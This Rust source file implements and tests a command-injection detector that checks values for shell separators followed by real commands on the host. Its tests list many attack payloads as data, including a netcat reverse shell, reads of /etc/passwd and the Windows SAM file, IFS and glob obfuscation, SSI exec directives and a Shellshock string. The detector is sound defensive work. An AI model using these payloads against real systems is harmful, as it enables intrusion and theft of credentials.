//! Command injection, judged by system internals: a value is an injection
//! when a shell would run a command from it *on this host*.
//!
//! That takes a shell separator or substitution (`;`, `|`, `||`, `&`, `&&`,
//! newline, backticks, `$(...)`) followed by a word that is an executable
//! found in `PATH` when the process started, an absolute path to one, or a
//! shell builtin. `${IFS}`, quotes inside the word (`c'a't`), backslashes
//! (`c\at`), empty expansions (`c$@at`) and brace expansion (`{cat,/etc/passwd}`)
//! are undone first, as the shell would.
//!
//! Free text uses `;`, `&` and line breaks too ("Tom & Jerry; cats and dogs"),
//! and many English words are also commands (`more`, `time`, `test`). So a
//! separator counts only when the command word is followed by the end of the
//! value, another separator, or an argument shaped like a shell argument (an
//! option, a path, a redirection, a number after `;`/`|`/`&`); a substitution
//! (`` ` `` or `$(`) needs only the command word. Common English words that
//! are also commands need such an argument even at the end of the value.
//! A Windows path is such an argument too (`& dir C:\Users`: this host's
//! `dir` runs whatever it names).
//!
//! A server-side include that runs a command (`<!--#exec cmd="id"-->`) is
//! an injection whatever this host's commands: a page served through SSI
//! runs it.

use std::collections::HashSet;
use std::sync::OnceLock;

/// Builtins of POSIX sh, bash and busybox that are not files in `PATH`.
const BUILTINS: &[&str] = &[
    "alias", "bg", "bind", "builtin", "cd", "command", "declare", "dirs", "disown", "echo",
    "enable", "eval", "exec", "exit", "export", "fc", "fg", "getopts", "hash", "history", "jobs",
    "let", "local", "logout", "popd", "printf", "pushd", "pwd", "readonly", "return", "set",
    "shopt", "source", "suspend", "times", "trap", "type", "typeset", "ulimit", "umask", "unalias",
    "unset", "read", "wait",
];

/// Commands that are also everyday English words: they need a shell-shaped
/// argument to count, even at the end of a value ("ok; yes", "and more").
const ENGLISH: &[&str] = &[
    "alias", "at", "cat", "command", "cut", "date", "do", "done", "echo", "enable", "eval", "exec",
    "exit", "export", "false", "file", "find", "free", "hash", "help", "history", "host", "import",
    "jobs", "join", "kill", "last", "less", "let", "link", "local", "look", "make", "man", "more",
    "nice", "paste", "ping", "print", "read", "reset", "return", "script", "see", "set", "shift",
    "sleep", "sort", "source", "split", "stat", "stop", "talk", "test", "time", "times", "top",
    "trap", "true", "type", "wait", "watch", "which", "who", "write", "yes", "zip",
];

/// Directories whose files are executables even when not in `PATH`.
const BIN_DIRS: &[&str] = &[
    "/bin",
    "/sbin",
    "/usr/bin",
    "/usr/sbin",
    "/usr/local/bin",
    "/usr/local/sbin",
];

/// The command-injection detector, holding this host's command names.
#[derive(Debug)]
pub struct CommandInjection {
    commands: HashSet<String>,
    bin_dirs: Vec<String>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Sep {
    /// `;`, `|`, `||`, `&`, `&&`.
    Chain,
    /// A line break.
    Newline,
    /// `` ` `` or `$(`.
    Substitution,
}

impl CommandInjection {
    /// The detector for this host: `PATH` is scanned once per process.
    pub fn system() -> &'static CommandInjection {
        static SYSTEM: OnceLock<CommandInjection> = OnceLock::new();
        SYSTEM.get_or_init(|| {
            let path = std::env::var_os("PATH").unwrap_or_default();
            let dirs: Vec<String> = std::env::split_paths(&path)
                .map(|p| p.to_string_lossy().into_owned())
                .chain(BIN_DIRS.iter().map(|s| s.to_string()))
                .collect();
            let mut names = Vec::new();
            for d in &dirs {
                let Ok(rd) = std::fs::read_dir(d) else {
                    continue;
                };
                for e in rd.flatten() {
                    if is_executable(&e) {
                        names.push(e.file_name().to_string_lossy().into_owned());
                    }
                }
            }
            Self::with_commands(names, dirs)
        })
    }

    /// A detector with an explicit command list (tests, other hosts).
    pub fn with_commands(names: impl IntoIterator<Item = String>, bin_dirs: Vec<String>) -> Self {
        let mut commands: HashSet<String> =
            names.into_iter().filter(|n| is_command_name(n)).collect();
        commands.extend(BUILTINS.iter().map(|s| s.to_string()));
        CommandInjection { commands, bin_dirs }
    }

    /// Whether `name` is a command on this host.
    pub fn is_command(&self, name: &str) -> bool {
        self.commands.contains(name)
    }

    /// Judges a decoded value; returns true when it would run a command.
    pub fn is_injection(&self, value: &str) -> bool {
        let b = value.as_bytes();
        if ssi_exec(b) {
            return true;
        }
        // Cheap pre-filter: no separator, no substitution, nothing to do.
        if !b
            .iter()
            .any(|c| matches!(c, b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b'$'))
        {
            return false;
        }
        let view = shell_view(value);
        let s = view.as_str();
        let bytes = s.as_bytes();
        let mut i = 0;
        // The last line asked whether it parses: its span and the answer.
        let mut line: Option<(usize, usize, bool)> = None;
        let mut is_quoted: Option<bool> = None;
        // Backticks pair as the shell pairs them: the second of a pair
        // ends the substitution and starts nothing (`internal `reEscape` as
        // a module`, a Debian package's description, was blocked: `as`, the
        // assembler, after the closing backtick), and one left open runs
        // nothing, the shell refusing the whole line (`Type `ls' to list
        // the files`, quoted as old manuals quote).
        let mut in_backticks = false;
        let mut globs_left = GLOBS;
        while i < bytes.len() {
            if bytes[i] == b'`' {
                in_backticks = !in_backticks;
                if !in_backticks || memchr::memchr(b'`', &bytes[i + 1..]).is_none() {
                    i += 1;
                    continue;
                }
            }
            let (sep, len) = match bytes[i] {
                b';' => (Sep::Chain, 1),
                b'|' | b'&' => (
                    Sep::Chain,
                    if bytes.get(i + 1) == Some(&bytes[i]) {
                        2
                    } else {
                        1
                    },
                ),
                b'\n' | b'\r' => (Sep::Newline, 1),
                b'`' => (Sep::Substitution, 1),
                b'$' if bytes.get(i + 1) == Some(&b'(') => (Sep::Substitution, 2),
                _ => {
                    i += 1;
                    continue;
                }
            };
            // Inside the app's double quotes the `(` of an unparsable line
            // is data and a substitution still runs: only chains are let
            // off for a line no shell parses.
            let start = i + len;
            let mut unparsable = || {
                sep != Sep::Substitution && {
                    // One answer a line: a line of many separators asked
                    // it at each, its length squared.
                    match line {
                        Some((from, to, answer)) if (from..=to).contains(&start) => answer,
                        _ => {
                            let (from, to) = line_around(bytes, start);
                            let answer = !*is_quoted.get_or_insert_with(|| quoted(s))
                                && unparsable_line(bytes, (from, to));
                            line = Some((from, to, answer));
                            answer
                        }
                    }
                }
            };
            if self.command_follows(&s[start..], sep, &mut globs_left) && !unparsable() {
                return true;
            }
            // Past blanks and line breaks, to the last line break before
            // what follows: each line break between would find the same
            // word (and ask of a blank line whether it parses); asked at
            // each, a value of line breaks cost its length squared.
            let blank = bytes[start..]
                .iter()
                .take_while(|c| matches!(c, b' ' | b'\t' | b'\n' | b'\r'))
                .count();
            i = bytes[start..start + blank]
                .iter()
                .rposition(|c| matches!(c, b'\n' | b'\r'))
                .map_or(start, |p| start + p);
        }
        false
    }

    fn command_follows(&self, rest: &str, sep: Sep, globs_left: &mut u8) -> bool {
        let rest = rest.trim_start_matches([' ', '\t', '\n', '\r']);
        let word_end = rest
            .find(|c: char| {
                c.is_whitespace() || matches!(c, ';' | '|' | '&' | '<' | '>' | '(' | ')' | '`')
            })
            .unwrap_or(rest.len());
        let raw_word = &rest[..word_end];
        let word = clean_word(raw_word);
        if word.is_empty() {
            return false;
        }
        let (is_cmd, english) = if word.starts_with('/') {
            (self.is_absolute_command(&word, globs_left), false)
        } else {
            (
                self.commands.contains(word.as_str()),
                ENGLISH.contains(&word.as_str()),
            )
        };
        if !is_cmd {
            return false;
        }
        let after = &rest[word_end..];
        // `{cat,/etc/passwd}` carries its arguments inside the braces.
        let braced_args = raw_word.starts_with('{') && raw_word.contains(',');
        if braced_args || (sep == Sep::Substitution && !english) {
            return true;
        }
        let arg = after.trim_start_matches([' ', '\t']);
        let at_end = arg.is_empty() || arg.starts_with([';', '|', '&', '\n', '\r', ')', '`', '#']);
        if at_end {
            return !english;
        }
        let first = arg.chars().next().unwrap_or(' ');
        let arg_word = arg.split_whitespace().next().unwrap_or("");
        let second = arg.chars().nth(1).unwrap_or(' ');
        match first {
            // An option is `-x` or `--x`; a lone dash is punctuation.
            '-' => second.is_ascii_alphanumeric() || second == '-',
            '/' | '~' | '$' | '<' | '>' | '.' | '\'' | '"' | '*' => true,
            c if c.is_ascii_digit() => sep != Sep::Newline,
            _ => arg_word.contains('/') || windows_path(arg_word),
        }
    }

    fn is_absolute_command(&self, word: &str, globs_left: &mut u8) -> bool {
        let Some((dir, name)) = word.rsplit_once('/') else {
            return false;
        };
        if name.is_empty() {
            return false;
        }
        let dir = if dir.is_empty() { "/" } else { dir };
        if word.contains(['?', '*', '[']) {
            // Each pattern is matched against every command of the host
            // (about 2,500 here; 370 µs for `/*a*b*...*z`): a value may have
            // `GLOBS` of them matched, and one with more is taken as one
            // that runs a command (2,000 such words in 60 KiB took 0.75 s).
            if *globs_left == 0 {
                return true;
            }
            *globs_left -= 1;
            return self.globbed_command(dir, name);
        }
        self.commands.contains(name) || self.bin_dirs.iter().any(|d| d == dir)
    }

    /// Whether a path with glob characters names a command of this host
    /// (`/???/??t /???/p??s??` runs `/bin/cat /etc/passwd`: the shell
    /// expands the pattern before it runs the first word): its last part
    /// matches a command's name, or its directory a directory of commands.
    /// A part must hold a byte that is no glob character to count: `/*`,
    /// a C comment's opening after a `;`, matches every name.
    fn globbed_command(&self, dir: &str, name: &str) -> bool {
        let literal = |p: &str| {
            p.bytes()
                .any(|c| !matches!(c, b'?' | b'*' | b'[' | b']' | b'/'))
        };
        let pattern = |p: &str| glob::Pattern::new(p).ok();
        (literal(name) && pattern(name).is_some_and(|p| self.commands.iter().any(|c| p.matches(c))))
            || (literal(dir)
                && pattern(dir).is_some_and(|p| self.bin_dirs.iter().any(|d| p.matches(d))))
    }
}

/// Globbed command paths one value may have matched against the host's
/// commands (see [`CommandInjection::is_absolute_command`]).
const GLOBS: u8 = 8;

/// Shell words after which `(` is grammar: `if (x)`, `case x in (a)`,
/// `for ((...))`, `function f ()`.
const RESERVED: &[&str] = &[
    "if", "then", "else", "elif", "fi", "do", "done", "case", "esac", "while", "until", "for",
    "in", "function", "select", "time", "coproc", "!", "{", "}", "[[", "]]",
];

/// [`unparsable_line`] for the line of `s` that holds byte `i`, in any
/// value.
#[cfg(test)]
fn in_unparsable_line(s: &str, i: usize) -> bool {
    !quoted(s) && unparsable_line(s.as_bytes(), line_around(s.as_bytes(), i))
}

/// Whether `s` holds a quote, which may close the app's own quotes around
/// the value and leave a `(` inside them, as data, or a backslash, which
/// may join lines (see [`in_unparsable_line`]).
fn quoted(s: &str) -> bool {
    s.contains(['\\', '\'', '"', '`'])
}

/// Whether the line `from..to` of `b` (where a command follows a
/// separator) is one no shell parses: it has a `(` after a word and a space
/// (`Mozilla/5.0 (Windows; U; nl)`). sh,
/// bash, dash, busybox, mksh and zsh read a whole line before running any
/// of it, and refuse such a line ("syntax error near unexpected token
/// `('"), so that `echo A; echo x (y; id)` runs neither `echo A` nor `id`:
/// the `; nl)` of an old Firefox's User-Agent (`nl` numbers lines) or the
/// `; U; id)` of an Opera one (`id`, an Indonesian locale) runs nothing. A
/// payload after a line break (`Mozilla/5.0 (X)\nid`) is on a line of its
/// own, and a `(` at the start of a command (a subshell, Shellshock's `() {
/// :; }`) or after a reserved word is grammar. Values with a quote, a
/// backslash or a backtick anywhere, or a `#` before the `(` (which may
/// make it data or hide it), are not judged so; nor is a substitution
/// (`$(id)`), which runs inside the app's double quotes, where the `(` is
/// data. (fish, not a POSIX shell, reads `(...)` as a substitution; `system`,
/// `popen` and `sh -c` run `/bin/sh`.)
fn unparsable_line(b: &[u8], (from, to): (usize, usize)) -> bool {
    let line = &b[from..to];
    let hash = memchr::memchr(b'#', line).unwrap_or(line.len());
    for open in memchr::memchr_iter(b'(', line) {
        if hash < open {
            return false; // the `(` may be in a comment
        }
        // `f ()` defines a function.
        if line[open + 1..].iter().find(|c| !matches!(c, b' ' | b'\t')) == Some(&b')') {
            continue;
        }
        let word_end = line[..open]
            .iter()
            .rposition(|c| !matches!(c, b' ' | b'\t'))
            .map_or(0, |p| p + 1);
        if word_end == open || word_end == 0 {
            continue; // no space before `(`, or nothing before it
        }
        let word_start = line[..word_end]
            .iter()
            .rposition(|c| {
                matches!(
                    c,
                    b' ' | b'\t' | b';' | b'|' | b'&' | b'(' | b')' | b'<' | b'>'
                )
            })
            .map_or(0, |p| p + 1);
        let word = &line[word_start..word_end];
        let plain = |c: &u8| {
            c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'_' | b'-' | b':' | b',' | b'+')
        };
        if !word.is_empty()
            && word.iter().all(plain)
            && !RESERVED.iter().any(|r| r.as_bytes() == word)
        {
            return true;
        }
    }
    false
}

/// The span of the line of `b` that holds byte `i` (a line break ends one).
fn line_around(b: &[u8], i: usize) -> (usize, usize) {
    let from = b[..i]
        .iter()
        .rposition(|&c| c == b'\n' || c == b'\r')
        .map_or(0, |p| p + 1);
    let to = b[i..]
        .iter()
        .position(|&c| c == b'\n' || c == b'\r')
        .map_or(b.len(), |p| i + p);
    (from, to)
}

/// Undoes the shell's word-splitting tricks that hide separators and spaces.
fn shell_view(value: &str) -> String {
    let mut s = value
        .replace("${IFS}", " ")
        .replace("$IFS$9", " ")
        .replace("$IFS", " ");
    if s.contains("${IFS%") {
        // ${IFS%??} and similar trimmed expansions still expand to blanks.
        while let Some(i) = s.find("${IFS%") {
            let end = s[i..].find('}').map(|j| i + j + 1).unwrap_or(s.len());
            s.replace_range(i..end, " ");
        }
    }
    s
}

/// Whether `w` is a Windows path (`C:\Users`, `%SYSTEMROOT%\repair`,
/// `\\host\share`): the argument of `; dir C:\Users` or `& type
/// C:\Windows\win.ini`, commands this host has too (coreutils' `dir`, the
/// shell's `type`), which run whatever their argument names.
fn windows_path(w: &str) -> bool {
    let b = w.as_bytes();
    let drive = b.len() >= 3 && b[0].is_ascii_alphabetic() && b[1] == b':' && b[2] == b'\\';
    let variable = b.first() == Some(&b'%')
        && b[1..]
            .iter()
            .position(|&c| c == b'%')
            .is_some_and(|p| p > 0 && b.get(p + 2) == Some(&b'\\'));
    drive || variable || b.starts_with(b"\\\\")
}

/// Whether the value holds a server-side include that runs a command
/// (`<!--#exec cmd="id"-->`, `<!--#exec cgi=...-->`): a page served through
/// SSI (Apache's `mod_include`, nginx's `ssi on`) runs it with the server's
/// rights. Directive names are matched in any case, as `mod_include` does.
fn ssi_exec(b: &[u8]) -> bool {
    // At each `<` rather than with `memmem`, whose searcher, built at each
    // call, cost 400 instructions a value (callgrind, `profile form`): most
    // values hold no `<` at all.
    memchr::memchr_iter(b'<', b).any(|i| {
        b[i..].starts_with(b"<!--#")
            && b.get(i + 5..i + 9)
                .is_some_and(|w| w.eq_ignore_ascii_case(b"exec"))
    })
}

/// Removes what the shell removes from a word before running it.
fn clean_word(raw: &str) -> String {
    let mut w = raw;
    // {cat,/etc/passwd} runs `cat /etc/passwd`.
    if let Some(inner) = w.strip_prefix('{') {
        w = inner.split([',', '}']).next().unwrap_or("");
    }
    let mut out = String::with_capacity(w.len());
    let mut chars = w.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\'' | '"' | '\\' => {}
            '$' => match chars.peek() {
                // $@, $*, $1..$9 expand to nothing in an injected context.
                Some('@' | '*') | Some('0'..='9') => {
                    chars.next();
                }
                Some('{') => {
                    // ${x} of an unset variable: nothing.
                    for c in chars.by_ref() {
                        if c == '}' {
                            break;
                        }
                    }
                }
                _ => out.push(c),
            },
            _ => out.push(c),
        }
    }
    out
}

fn is_command_name(n: &str) -> bool {
    !n.is_empty()
        && n.len() <= 64
        && n.bytes().next().is_some_and(|b| b.is_ascii_alphanumeric())
        && n.bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'+'))
}

#[cfg(unix)]
fn is_executable(e: &std::fs::DirEntry) -> bool {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(e.path()).is_ok_and(|m| m.is_file() && m.permissions().mode() & 0o111 != 0)
}

#[cfg(not(unix))]
fn is_executable(e: &std::fs::DirEntry) -> bool {
    let n = e.file_name().to_string_lossy().to_ascii_lowercase();
    std::fs::metadata(e.path()).is_ok_and(|m| m.is_file())
        && [".exe", ".bat", ".cmd", ".com", ".ps1"]
            .iter()
            .any(|x| n.ends_with(x))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn det() -> CommandInjection {
        let names = [
            "dir", "cat", "id", "whoami", "uname", "ls", "sleep", "ping", "nc", "sh", "bash",
            "wget", "curl", "more", "test", "yes", "time", "w",
        ];
        CommandInjection::with_commands(
            names.iter().map(|s| s.to_string()),
            vec!["/usr/bin".into()],
        )
    }

    #[test]
    fn issue_examples_are_caught() {
        let d = det();
        for v in [
            "; cat /etc/passwd",
            "| id",
            "$(whoami)",
            "`uname -a`",
            "\nid",
            ";${IFS}cat${IFS}/etc/passwd",
            "x;id;",
            "127.0.0.1 && ping -c 3 10.0.0.1",
            "a || sleep 5",
            "1;c'a't /etc/passwd",
            "1;c\\at /etc/passwd",
            "1;c$@at /etc/passwd",
            ";{cat,/etc/passwd}",
            "| /bin/sh -i",
            "; /usr/bin/python3 -c x",
            "x | nc 10.0.0.1 4444 -e /bin/sh",
            "foo;w",
            "a\r\nid",
            "; whoami # comment",
            "1${IFS%??}&&${IFS%??}id",
            "x; echo $HOME",
            "`cat /etc/passwd`",
            "$(sleep 5)",
            "a;sleep 10;",
            "& dir C:\\Users",
            "; type C:\\Windows\\win.ini",
            "| type %SYSTEMROOT%\\repair\\SAM",
            "&& ls \\\\host\\share",
            "<!--#exec cmd=\"/bin/cat /etc/passwd\"-->",
            "x<!--#EXEC cgi=\"/cgi-bin/x\"-->",
            "`foo` `id`",
            "`foo`;id",
            "a `b` c `uname -a`",
            // Paths the shell expands: a command's name, a directory of them.
            ";/???/??t /???/p??s??",
            "| /usr/bin/c?t /etc/passwd",
            "; /usr/b*/id",
            "; /???/???/wh?ami",
            // Past `GLOBS` patterns, one more is taken as a command.
            &"; /tmp/q?x -v ".repeat(usize::from(GLOBS) + 1),
        ] {
            assert!(d.is_injection(v), "missed {v:?}");
        }
    }

    #[test]
    fn benign_text_is_not() {
        let d = det();
        for v in [
            "Tom & Jerry; cats and dogs",
            "a|b",
            "$(5)",
            "price: $(5.00)",
            "rock & roll",
            "AT&T; R&D",
            "I want more; more please",
            "ok; yes",
            "Hello\nwhich one is better?",
            "Thanks!\ntest it tomorrow",
            "see you at 5; time flies",
            "costs $5 | $10",
            "echo of the past; echoes",
            "Password echo; script; dog group",
            "`script` is great",
            "About more; eval - delete",
            "Fun like; sleep - Blue menu",
            "id",
            "cat /etc/passwd",
            "",
            "$",
            "{,}",
            "Saved it; see C:\\Users\\jane",
            "Tom & Jerry C:\\Films",
            "<!-- #exec -->",
            "<!--#include virtual=\"/footer.html\"-->",
            // The closing backtick of inline code starts nothing.
            "internal `reEscape` ls module",
            "run `make` id now",
            "Try `stty 0' -- it works",
            "a `uname -a",
            // Patterns with no letter, or matching no command nor directory.
            "x; /* a comment */",
            "a; /*/ b",
            "; /???/ x",
            "; /tmp/q?x -v",
            &"; /tmp/q?x -v ".repeat(usize::from(GLOBS)),
        ] {
            assert!(!d.is_injection(v), "false alarm on {v:?}");
        }
    }

    #[test]
    fn a_line_no_shell_parses_runs_nothing() {
        let d = det();
        for v in [
            // User-Agents of old Firefox and Opera: locales between `;`.
            "Opera/9.80 (Windows NT 6.1; U; id) Presto/2.10.289 Version/12.00",
            "Mozilla/5.0 (Windows; U; Windows NT 5.1; id; rv:1.9) Gecko/2008052906",
            "x (y; id)",
            "echo A; Mozilla/5.0 (X11; U; id)",
        ] {
            assert!(in_unparsable_line(v, v.find(';').unwrap() + 1), "{v:?}");
            assert!(!d.is_injection(v), "false alarm on {v:?}");
        }
        for v in [
            // A line of its own, a subshell, a function, a reserved word,
            // quotes or a comment before the `(`.
            "Mozilla/5.0 (X11)\nid",
            "Mozilla/5.0 (X11)\n; id",
            "() { :; }; /bin/id",
            "(sleep 5; id)",
            "x; id; f ()",
            "x; id; if (true) then :; fi",
            "x'; id; echo (y",
            "x; id # (y",
            "x; $(id) (y",
            // Quotes that may close the app's own, substitutions.
            "Mozilla/5.0 (X11)'; id; '",
            "Mozilla/5.0 (X11)\"; id; \"",
            "Mozilla/5.0 (X11; $(id))",
            "Mozilla/5.0 (X11; `id`)",
        ] {
            assert!(d.is_injection(v), "missed {v:?}");
        }
    }

    proptest::proptest! {
        // Any text of the bytes the shell reads gets an answer, and so does
        // the line test at every position.
        #[test]
        fn any_shell_text_gets_an_answer(v in "[a-z (){};|&`$'\"#\\\\\n/=-]{0,40}") {
            let _ = det().is_injection(&v);
            for i in 0..=v.len() {
                let _ = in_unparsable_line(&v, i);
            }
        }
    }

    #[test]
    fn system_scan_finds_basic_commands() {
        let s = CommandInjection::system();
        assert!(s.is_command("echo"));
        #[cfg(unix)]
        assert!(s.is_command("sh"), "no `sh` found in PATH");
        assert!(s.is_injection("; cat /etc/passwd"));
    }
}
